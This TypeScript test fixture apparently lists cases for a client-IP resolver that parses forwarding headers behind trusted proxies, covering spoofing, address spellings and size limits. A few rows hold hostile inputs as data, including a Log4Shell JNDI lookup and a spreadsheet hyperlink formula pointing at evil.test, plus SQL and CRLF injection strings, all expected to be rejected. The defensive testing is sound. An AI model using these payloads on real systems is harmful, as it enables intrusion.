import type { UnknownReason } from '@/lib/policy/client-address';

/**
 * Whose address it is: the table of cases, asked of the resolver alone and over real sockets of both
 * edges.
 */

/** What is sent, and by which settings it is read. */
export type Case = {
  /** Default: the proxy that `TRUSTED` lists. */
  peer?: string;
  headers?: [name: string, value: string][];
  /** Default: `TRUSTED`. */
  trusted?: string;
  /** Default: x-forwarded-for. */
  header?: string;
  privateClients?: 'allow' | 'refuse';
  ipv6Prefix?: number;
  /** Whether APP_URL is https. Default: no, so that a peer may be a client. */
  isSecure?: boolean;
};
/** The answer. */
export type Result = {
  address: string | null;
  network: string | null;
  reason: UnknownReason | null;
};

export const TRUSTED = '127.0.0.1,::1,10.0.0.0/8,fd00::/8';

/** Header lines as they are sent, the colon and one blank between name and value. */
export const lines = (...texts: string[]): Case => ({
  headers: texts.map((text) => {
    const [name = ''] = text.split(': ', 1);
    return [name, text.slice(name.length + 2)];
  }),
});
export const xff = (value: string) => lines(`X-Forwarded-For: ${value}`);
export const realIp = (value: string): Case => ({
  header: 'x-real-ip',
  ...lines(`X-Real-IP: ${value}`),
});
export const forwarded = (value: string): Case => ({
  header: 'forwarded',
  ...lines(`Forwarded: ${value}`),
});
export const client = (address: string, network = `${address}/32`): Result => ({
  address,
  network,
  reason: null,
});
/** Of most rows. */
export const HERS = client('198.51.100.7');

/** What is to come of a row: a client, or the reason why there is none. */
export type Wanted = Result | UnknownReason;
export const resultOf = (wanted: Wanted): Result =>
  typeof wanted === 'string' ? { address: null, network: null, reason: wanted } : wanted;

/** Row, guarantee, input, answer. Peer is the trusted proxy 10.0.0.1 unless said otherwise. */
export const ADDRESS_ROWS: [number, string, Case, Wanted][] = [
  // peer and header trust
  [1, 'Direct client, no proxy header', { peer: '203.0.113.9' }, client('203.0.113.9')],
  [
    2,
    'Untrusted peer sends the header: ignored, peer wins',
    { peer: '203.0.113.9', ...xff('198.51.100.7') },
    client('203.0.113.9'),
  ],
  [
    4,
    'All the well-known headers at once, direct to origin',
    {
      peer: '203.0.113.9',
      ...lines(
        'X-Real-IP: 198.51.100.7',
        'X-Client-IP: 198.51.100.7',
        'True-Client-IP: 198.51.100.7',
        'CF-Connecting-IP: 198.51.100.7',
        'Fastly-Client-IP: 198.51.100.7',
        'X-Cluster-Client-IP: 198.51.100.7',
        'X-Original-Forwarded-For: 198.51.100.7',
        'X-Originating-IP: 198.51.100.7',
        'X-Remote-IP: 198.51.100.7',
        'X-Azure-ClientIP: 198.51.100.7',
        'X-Envoy-External-Address: 198.51.100.7',
        'Forwarded: for=198.51.100.7',
      ),
    },
    client('203.0.113.9'),
  ],
  [5, 'Normal case behind the proxy', xff('198.51.100.7'), HERS],
  [7, 'Proxy on IPv6 loopback', { peer: '::1', ...xff('198.51.100.7') }, HERS],
  [8, 'Proxy on a ULA address', { peer: 'fd00::5', ...xff('198.51.100.7') }, HERS],
  [10, 'Header present and empty', xff(''), 'empty_header'],
  [11, 'Only blanks', xff(' \t '), 'empty_header'],
  [
    13,
    'Pass-through header from the client beside the real one (ALB passes X-Real-IP through)',
    lines('X-Real-IP: 1.1.1.1', 'X-Forwarded-For: 198.51.100.7'),
    HERS,
  ],
  [
    14,
    "Same with True-Client-IP (this one fools Ory Kratos' ClientIP())",
    lines('True-Client-IP: 1.1.1.1', 'X-Forwarded-For: 198.51.100.7'),
    HERS,
  ],
  [
    16,
    'Underscore spelling is another header',
    lines('X_Forwarded_For: 1.1.1.1', 'X-Forwarded-For: 198.51.100.7'),
    HERS,
  ],
  [
    17,
    "a caller's own internal header is not read",
    lines('X-Verified-Client-Ip: 1.1.1.1', 'X-Forwarded-For: 198.51.100.7'),
    HERS,
  ],
  [
    19,
    'Unix-socket peer with TRUSTED_PROXIES=unix',
    { peer: 'unix', trusted: 'unix', ...xff('198.51.100.7') },
    HERS,
  ],
  [20, 'Unix-socket peer, no header', { peer: 'unix', trusted: 'unix' }, 'no_header'],
  [
    22,
    'forgotten TRUSTED_PROXIES behind a local proxy is no client',
    { peer: '127.0.0.1', trusted: '', ...xff('198.51.100.7') },
    'proxy_not_configured',
  ],
  [
    23,
    'Same with a container proxy, even when LAN clients are allowed',
    {
      peer: '172.17.0.1',
      trusted: '',
      privateClients: 'allow',
      ...xff('198.51.100.7'),
    },
    'proxy_not_configured',
  ],
  [
    25,
    'a container gateway without a header, in mapped form',
    { peer: '::ffff:172.17.0.1', trusted: '' },
    'private_address',
  ],
  [
    26,
    'Bare TCP tunnel (ssh -R, socat, kubectl port-forward): all clients are loopback',
    { peer: '127.0.0.1', trusted: '' },
    'loopback',
  ],

  // which element of the list
  [28, 'Spoofed leftmost element', xff('1.1.1.1, 198.51.100.7'), HERS],
  [29, 'Several spoofed elements', xff('1.1.1.1,2.2.2.2,3.3.3.3,198.51.100.7'), HERS],
  [
    31,
    'Trusted hops in mapped and ULA form are skipped',
    xff('1.1.1.1, 198.51.100.7, ::ffff:10.0.0.9, fd00::7'),
    HERS,
  ],
  [32, 'only trusted addresses: no client is known', xff('10.0.0.9'), 'all_trusted'],
  [34, 'Whole chain trusted', xff('10.0.0.9, 10.0.0.8, ::1'), 'all_trusted'],
  [
    35,
    'an unlisted CDN edge is the client: elements left of it are counted for the health page',
    xff('198.51.100.7, 203.0.113.200'),
    client('203.0.113.200'),
  ],
  [
    37,
    'header twice, the proxy wrote the first: known limit, the proxy must overwrite or append last',
    lines('X-Forwarded-For: 198.51.100.7', 'X-Forwarded-For: 1.1.1.1'),
    client('1.1.1.1'),
  ],
  [
    38,
    'Mixed-case duplicates',
    lines('x-forwarded-for: 1.1.1.1', 'X-FORWARDED-FOR: 198.51.100.7'),
    HERS,
  ],
  [40, 'Empty element left of the chosen one does not matter', xff(',198.51.100.7'), HERS],
  [41, 'Trailing comma', xff('198.51.100.7,'), 'empty_element'],
  [43, 'Only a comma', xff(','), 'empty_element'],
  [44, 'Only commas and blanks', xff(', , ,'), 'empty_element'],
  [46, 'Semicolon instead of comma', xff('1.1.1.1;198.51.100.7'), 'bad_address'],
  [47, 'Garbage left of the chosen element is not read', xff('garbage, 198.51.100.7'), HERS],
  [49, 'unknown at the right end', xff('198.51.100.7, unknown'), 'bad_address'],
  [50, 'Obfuscated name at the right end', xff('198.51.100.7, _hidden'), 'bad_address'],

  // spelling of one IPv4 address
  [52, 'Blanks and tabs round it', xff('\t198.51.100.7 '), HERS],
  [53, 'Port (Azure App Gateway style)', xff('198.51.100.7:443'), HERS],
  [55, 'Port too large', xff('198.51.100.7:65536'), 'bad_port'],
  [56, 'Colon without port', xff('198.51.100.7:'), 'bad_address'],
  [58, 'Two ports', xff('198.51.100.7:80:90'), 'bad_address'],
  [59, 'IPv4 in brackets', xff('[198.51.100.7]'), 'bad_address'],
  [61, 'Quoted (that is Forwarded syntax)', xff('"198.51.100.7"'), 'bad_address'],
  [62, 'Leading zero (CVE-2021-28918 family)', xff('198.51.100.07'), 'bad_address'],
  [64, 'Octal: ipaddr.js reads 10.1.2.3, Postgres 12.1.2.3', xff('012.1.2.3'), 'bad_address'],
  [65, 'Hex part', xff('0x7f.0.0.1'), 'bad_address'],
  [67, 'One decimal number', xff('3325256711'), 'bad_address'],
  [68, 'One octal number (ip package bypass)', xff('017700000001'), 'bad_address'],
  [70, 'Three parts (ipaddr.js: 198.51.0.7)', xff('198.51.7'), 'bad_address'],
  [71, 'Trailing dot', xff('198.51.100.7.'), 'bad_address'],
  [73, 'Part > 255', xff('198.51.100.256'), 'bad_address'],
  [74, 'Negative part', xff('198.51.100.-7'), 'bad_address'],
  [76, 'CIDR (Postgres inet would take it)', xff('198.51.100.7/32'), 'bad_address'],
  [
    77,
    'Network (would match a whole range in a careless query)',
    xff('198.51.100.7/24'),
    'bad_address',
  ],
  [
    79,
    'Full-width digits (WHATWG URL turns them into the real address)',
    xff('１９８.５１.１００.７'),
    'bad_address',
  ],
  [80, 'Ideographic full stop', xff('198\u300251.100.7'), 'bad_address'],
  [
    82,
    'CRLF (unit level; Node answers 400 on the wire)',
    xff('198.51.100.7\r\nX-Evil: 1'),
    'bad_address',
  ],
  [83, 'Zero-width space', xff('198.51.100.7\u200b'), 'bad_address'],
  [
    85,
    'DNS name that resolves to an address: never resolve',
    xff('198.51.100.7.nip.io'),
    'bad_address',
  ],
  [86, 'SQL in the header', xff("198.51.100.7' OR '1'='1"), 'bad_address'],
  [
    88,
    'Spreadsheet formula: harmless in the CSV export',
    xff('=HYPERLINK("http://evil.test")'),
    'bad_address',
  ],
  [
    89,
    'Log4Shell string: no look-ups in log shipping',
    xff(`\${jndi:ldap://evil.test/a}`),
    'bad_address',
  ],

  // valid, but never a client
  [91, '"This network"', xff('0.1.2.3'), 'not_a_client_address'],
  [92, 'Loopback not in the trusted list', xff('127.0.0.2'), 'loopback'],
  [94, 'Multicast', xff('224.0.0.1'), 'not_a_client_address'],
  [95, 'Broadcast', xff('255.255.255.255'), 'not_a_client_address'],
  [97, 'Unspecified IPv6', xff('::'), 'not_a_client_address'],
  [
    98,
    'IPv4-compatible: ipaddr.js reads 198.51.100.7',
    xff('::198.51.100.7'),
    'not_a_client_address',
  ],
  [100, 'Link-local', xff('fe80::1'), 'not_a_client_address'],
  [101, 'Link-local with zone', xff('fe80::1%eth0'), 'bad_address'],
  [103, 'Link-local peer on the socket', { peer: 'fe80::1%eth0' }, 'bad_address'],
  [
    104,
    'Teredo: hides an IPv4 chosen by the sender',
    xff('2001:0:4136:e378:8000:63bf:3fff:fdd2'),
    'not_a_client_address',
  ],
  [106, 'Local-use NAT64', xff('64:ff9b:1::1'), 'not_a_client_address'],

  // IPv6 spelling, mapped forms and the /64
  [107, 'Plain', xff('2001:db8:1:2:3:4:5:6'), client('2001:db8:1:2:3:4:5:6', '2001:db8:1:2::/64')],
  [109, 'Brackets', xff('[2001:db8:1:2::1]'), client('2001:db8:1:2::1', '2001:db8:1:2::/64')],
  [
    110,
    'Brackets and port',
    xff('[2001:db8:1:2::1]:443'),
    client('2001:db8:1:2::1', '2001:db8:1:2::/64'),
  ],
  [112, 'Port without colon', xff('[2001:db8:1:2::1]443'), 'bad_address'],
  [113, 'Unclosed bracket', xff('[2001:db8:1:2::1'), 'bad_address'],
  [115, 'Double brackets', xff('[[2001:db8::1]]'), 'bad_address'],
  [116, 'Two ::', xff('2001:db8::1::2'), 'bad_address'],
  [118, 'Nine groups', xff('2001:db8:1:2:3:4:5:6:7'), 'unclear_port'],
  [119, 'Group too long', xff('2001:db8::12345'), 'bad_address'],
  [
    121,
    'Top of the /64: same key',
    xff('2001:db8:1:2:ffff:ffff:ffff:ffff'),
    client('2001:db8:1:2:ffff:ffff:ffff:ffff', '2001:db8:1:2::/64'),
  ],
  [
    122,
    'Next /64: other key',
    xff('2001:db8:1:3::'),
    client('2001:db8:1:3::', '2001:db8:1:3::/64'),
  ],
  [
    124,
    'IPV6_PREFIX=128',
    { ipv6Prefix: 128, ...xff('2001:db8:1:2::1') },
    client('2001:db8:1:2::1', '2001:db8:1:2::1/128'),
  ],
  [125, 'Mapped: same key as the IPv4 form', xff('::ffff:198.51.100.7'), HERS],
  [127, 'Mapped, hex', xff('::ffff:c633:6407'), HERS],
  [128, 'Mapped, written out', xff('0:0:0:0:0:ffff:c633:6407'), HERS],
  [
    130,
    'two mapped addresses do not share a network',
    xff('::ffff:203.0.113.50'),
    client('203.0.113.50'),
  ],
  [
    131,
    'SIIT looks like mapped, and is no client',
    xff('::ffff:0:198.51.100.7'),
    'not_a_client_address',
  ],
  [133, 'Mapped loopback', xff('::ffff:127.0.0.1'), 'all_trusted'],
  [134, 'Mapped unspecified', xff('::ffff:0.0.0.0'), 'not_a_client_address'],
  [136, 'NAT64 well-known prefix', xff('64:ff9b::198.51.100.7'), HERS],
  [137, 'NAT64 that hides a trusted address', xff('64:ff9b::10.0.0.9'), 'all_trusted'],
  [
    139,
    '6to4: kept as IPv6',
    xff('2002:c633:6407::1'),
    client('2002:c633:6407::1', '2002:c633:6407::/64'),
  ],
  [140, 'Mapped peer on a dual-stack socket', { peer: '::ffff:198.51.100.7' }, HERS],

  // private ranges
  [142, 'a LAN client is refused by default', xff('192.168.1.5'), 'private_address'],
  [
    143,
    'Self-hosted on a LAN, switched on',
    { privateClients: 'allow', ...xff('192.168.1.5') },
    client('192.168.1.5'),
  ],
  [145, 'carrier-grade NAT is refused by default', xff('100.64.0.9'), 'private_address'],
  [146, 'Just outside 172.16.0.0/12', xff('172.32.0.1'), client('172.32.0.1')],
  [
    148,
    'ULA, switched on',
    { privateClients: 'allow', ...xff('fc00::9') },
    client('fc00::9', 'fc00::/64'),
  ],
  [149, 'Mapped private', xff('::ffff:192.168.1.5'), 'private_address'],

  // size limits
  [151, 'At the hop limit', xff(new Array(50).fill('1.1.1.1').join(',')), client('1.1.1.1')],
  [
    152,
    'F14: over the hop limit, left of what is read',
    xff(new Array(51).fill('1.1.1.1').join(',')),
    client('1.1.1.1'),
  ],
  [
    153,
    'F14: over 2,048 characters, left of what is read',
    xff(`${'x'.repeat(2_100)}, 198.51.100.7`),
    HERS,
  ],
  [154, 'Comma bomb', xff(','.repeat(2_048)), 'empty_element'],
  [
    196,
    '50 listed proxies in a row are too many',
    xff(`198.51.100.7,${new Array(50).fill('10.0.0.9').join(',')}`),
    'too_many_hops',
  ],
  [197, '49 are not', xff(`198.51.100.7,${new Array(49).fill('10.0.0.9').join(',')}`), HERS],
  [
    198,
    'F14: Forwarded: elements left of what is read are not counted',
    forwarded(`${new Array(60).fill('for=1.1.1.1').join(',')},for=198.51.100.7`),
    HERS,
  ],

  // an https APP_URL: everybody comes through a proxy
  [
    199,
    'F1: a loopback peer that is not listed is no client, with no header at all',
    { peer: '127.0.0.1', trusted: '', isSecure: true, privateClients: 'allow' },
    'proxy_not_configured',
  ],
  [
    200,
    'F1: a public peer that is not listed is no client',
    { peer: '203.0.113.9', isSecure: true },
    'proxy_not_configured',
  ],
  [
    201,
    'F1: nor by what it says of itself',
    {
      peer: '203.0.113.9',
      isSecure: true,
      ...lines('X-Forwarded-Proto: https', 'X-Forwarded-For: 198.51.100.7'),
    },
    'proxy_not_configured',
  ],
  [202, 'F1: a listed proxy is believed as ever', { ...xff('198.51.100.7'), isSecure: true }, HERS],

  // addresses that anybody can call from
  [203, 'P2: a CDN’s shared worker', xff('2a06:98c0:3600::103'), 'not_a_client_address'],
  [
    204,
    'P2: its neighbour range is not',
    xff('2a06:98c0:3601::103'),
    client('2a06:98c0:3601::103', '2a06:98c0:3601::/64'),
  ],

  // headers that add ports
  [
    205,
    'P14: IPv6 with a port and no brackets is not read as another address',
    {
      header: 'cloudfront-viewer-address',
      ...lines('CloudFront-Viewer-Address: 2001:db8::1:2:3:4:443'),
    },
    'unclear_port',
  ],
  [
    206,
    'P14: with brackets it is',
    {
      header: 'cloudfront-viewer-address',
      ...lines('CloudFront-Viewer-Address: [2001:db8::1:2:3:4]:443'),
    },
    client('2001:db8::1:2:3:4', '2001:db8::/64'),
  ],
  [
    207,
    'P14: and IPv4 needs none',
    {
      header: 'cloudfront-viewer-address',
      ...lines('CloudFront-Viewer-Address: 198.51.100.7:46532'),
    },
    HERS,
  ],
  [
    155,
    'At the header-count limit (200)',
    { headers: [...new Array(199).fill(['a', '1']), ['X-Forwarded-For', '198.51.100.7']] },
    HERS,
  ],

  // a header that holds one address
  [157, 'Normal', realIp('198.51.100.7'), HERS],
  [
    158,
    'Twice, even when equal',
    {
      header: 'x-real-ip',
      ...lines('X-Real-IP: 198.51.100.7', 'X-Real-IP: 198.51.100.7'),
    },
    'not_single',
  ],
  [160, 'Not an address', realIp('unknown'), 'bad_address'],
  [161, 'Other header only', { header: 'x-real-ip', ...xff('198.51.100.7') }, 'no_header'],

  // Forwarded, RFC 7239
  [163, 'Names are case-insensitive', forwarded('For=198.51.100.7;PROTO=https;by=10.0.0.1'), HERS],
  [164, 'Quoted with port', forwarded('for="198.51.100.7:443"'), HERS],
  [
    166,
    'IPv6',
    forwarded('for="[2001:db8:1:2::1]"'),
    client('2001:db8:1:2::1', '2001:db8:1:2::/64'),
  ],
  [
    167,
    'IPv6 with port',
    forwarded('for="[2001:db8:1:2::1]:443"'),
    client('2001:db8:1:2::1', '2001:db8:1:2::/64'),
  ],
  [169, 'IPv6 without brackets', forwarded('for="2001:db8:1:2::1"'), 'bad_address'],
  [170, 'IPv4 in brackets', forwarded('for="[198.51.100.7]"'), 'bad_address'],
  [172, 'Spoofed left element', forwarded('for=1.1.1.1, for=198.51.100.7'), HERS],
  [173, 'Trusted hop skipped', forwarded('for=198.51.100.7, for=10.0.0.9'), HERS],
  [175, 'unknown', forwarded('for=unknown'), 'hidden_node'],
  [176, 'unknown with port', forwarded('for="unknown:443"'), 'hidden_node'],
  [178, 'Obfuscated node, quoted', forwarded('for="_gazonk"'), 'hidden_node'],
  [179, 'Empty quoted', forwarded('for=""'), 'hidden_node'],
  [181, 'No value', forwarded('for'), 'bad_forwarded'],
  [182, 'Not a pair', forwarded('198.51.100.7'), 'bad_forwarded'],
  [184, 'Last element without for', forwarded('for=198.51.100.7, proto=https'), 'no_for'],
  [185, 'Blanks round =', forwarded('for = 198.51.100.7'), 'bad_forwarded'],
  [187, 'Trailing comma', forwarded('for=198.51.100.7,'), 'bad_forwarded'],
  [
    188,
    "Unmatched quote swallows the proxy's element",
    forwarded('for="1.1.1.1, for=198.51.100.7'),
    'bad_forwarded',
  ],
  [
    190,
    'Comma, semicolon and a fake for inside quotes',
    forwarded('host="a,b;for=1.1.1.1";for=198.51.100.7'),
    HERS,
  ],
  [191, 'Escaped character inside quotes', forwarded('for="198.51.100.\\7"'), HERS],
  [193, 'Single quotes', forwarded("for='198.51.100.7'"), 'bad_address'],
  [194, 'Zone in by is not our business', forwarded('for=198.51.100.7;by="[fe80::1%eth0]"'), HERS],
];
